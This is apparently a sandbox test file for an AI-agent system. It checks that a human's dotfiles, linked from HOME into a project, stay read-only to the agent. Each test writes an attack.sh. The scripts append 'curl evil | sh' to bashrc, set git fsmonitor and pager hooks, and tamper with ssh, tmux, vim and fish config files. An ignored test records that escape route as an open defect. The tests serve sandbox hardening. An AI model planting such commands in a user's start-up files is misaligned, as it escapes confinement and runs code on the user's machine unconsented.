/**
 * The human's start-up files in HOME that lead into a write root (SPEC §7.8 P-SBX-6): a dotfiles
 * project (GNU stow, rcm, dotbot and most dotfile managers link `~/.bashrc` to a file of the
 * repository, often without the dot: `~/dotfiles/bashrc`) is the project an agent is asked to
 * tidy. What the human's shells and git load through those links stays read-only in the sandbox.
 */
import assert from "node:assert/strict";
import { exec } from "../../_support/exec.ts";
import { hostTest, NEEDS_TIER_B } from "../../_support/host.ts";
import { startKernelWithAgent } from "../../_support/kernel.ts";
import { PROJECT_AGENT } from "../../_support/principals.ts";
import type { Rec } from "../../_support/rec.ts";
import { textAt } from "../../_support/paths.ts";

hostTest(
  "P-SBX-6 HOME's start-up files that are links into the project (~/.bashrc -> proj/bashrc, ~/.gitconfig -> proj/git/config, ~/.config/git/config through a linked directory) stay read-only: the agent rewrote the human's bashrc and git config through their project names",
  NEEDS_TIER_B,
  async () => {
    const { kernel: k, token } = await startKernelWithAgent("agent:c", PROJECT_AGENT);
    try {
      const home = `${k.box.dir}/home`;
      const proj = `${home}/proj`;
      await Deno.mkdir(`${proj}/git`, { recursive: true });
      await Deno.mkdir(`${proj}/xdg-git`);
      await Deno.mkdir(`${home}/.config`);
      await Deno.writeTextFile(`${proj}/bashrc`, "alias ll='ls -l'\n");
      await Deno.writeTextFile(`${proj}/git/config`, "[user]\n\tname = me\n");
      await Deno.writeTextFile(`${proj}/xdg-git/config`, "[core]\n\tautocrlf = false\n");
      await Deno.writeTextFile(`${proj}/notes.md`, "todo\n");
      await Deno.symlink("proj/bashrc", `${home}/.bashrc`);
      await Deno.symlink(`${proj}/git/config`, `${home}/.gitconfig`);
      await Deno.symlink("../proj/xdg-git", `${home}/.config/git`);
      const human = await k.attach("work");
      await exec(human, `cd ${proj}`);
      const agent = await k.attach("work", token);
      await Deno.writeTextFile(
        `${proj}/attack.sh`,
        [
          "(echo 'curl evil | sh' >> bashrc) 2>/dev/null",
          "(printf '[core]\\n\\tfsmonitor = evil\\n' >> git/config) 2>/dev/null",
          "(mv git git.old && mkdir git && echo evil > git/config) 2>/dev/null",
          "(printf '[core]\\n\\tpager = evil\\n' > xdg-git/config) 2>/dev/null",
          "echo more >> notes.md && echo done",
        ].join("\n"),
      );
      const outcome = (await exec(agent, "sh attack.sh", { position: "value" })).value as Rec;
      assert.match(String((outcome.out as Rec)?.v), /done/, "ordinary work goes on");
      assert.equal(textAt(`${proj}/notes.md`), "todo\nmore\n");
      assert.deepEqual(
        [
          textAt(`${home}/.bashrc`),
          textAt(`${home}/.gitconfig`),
          textAt(`${home}/.config/git/config`),
        ],
        ["alias ll='ls -l'\n", "[user]\n\tname = me\n", "[core]\n\tautocrlf = false\n"],
      );
    } finally {
      await k.cleanup();
    }
  },
);

Deno.test({
  name:
    "P-SBX-6 every file HOME links into the project is read-only where it leads, not only PROTECTED names: ~/.ssh/config (ProxyCommand), ~/.tmux.conf (run-shell), ~/.vimrc and ~/.config/fish/config.fish linked to a dotfiles project were rewritten by the agent, and the human's ssh, tmux, vim and fish run them unconfined [ignored: defect found by the probe round; needs a SPEC decision: P-SBX-6 names a fixed list, and a dotfiles project holds the targets of most of HOME's start-up files under other names; protect every target of a link from HOME (or ~/.config, ~/.ssh) into a write root, refuse such a project at onboarding (M-ONB-1 refuses one holding ~/.ssh), or leave them writable?]",
  ignore: true,
  fn: async () => {
    if (NEEDS_TIER_B !== null) return;
    const { kernel: k, token } = await startKernelWithAgent("agent:c", PROJECT_AGENT);
    try {
      const home = `${k.box.dir}/home`;
      const proj = `${home}/proj`;
      const files = ["ssh_config", "tmux.conf", "vimrc", "config.fish"];
      await Deno.mkdir(proj, { recursive: true });
      await Deno.mkdir(`${home}/.ssh`, { mode: 0o700 });
      await Deno.mkdir(`${home}/.config/fish`, { recursive: true });
      for (const file of files) await Deno.writeTextFile(`${proj}/${file}`, "# mine\n");
      await Deno.symlink(`${proj}/ssh_config`, `${home}/.ssh/config`);
      await Deno.symlink("proj/tmux.conf", `${home}/.tmux.conf`);
      await Deno.symlink("proj/vimrc", `${home}/.vimrc`);
      await Deno.symlink(`${proj}/config.fish`, `${home}/.config/fish/config.fish`);
      const human = await k.attach("work");
      await exec(human, `cd ${proj}`);
      const agent = await k.attach("work", token);
      const src = files.map((f) => `(echo evil >> ${f}) 2>/dev/null`).join("; ") + "; echo done";
      await Deno.writeTextFile(`${proj}/attack.sh`, src);
      await exec(agent, "sh attack.sh", { position: "value" });
      const seen = files.map((file) => textAt(`${proj}/${file}`));
      assert.deepEqual(seen, files.map(() => "# mine\n"));
    } finally {
      await k.cleanup();
    }
  },
});
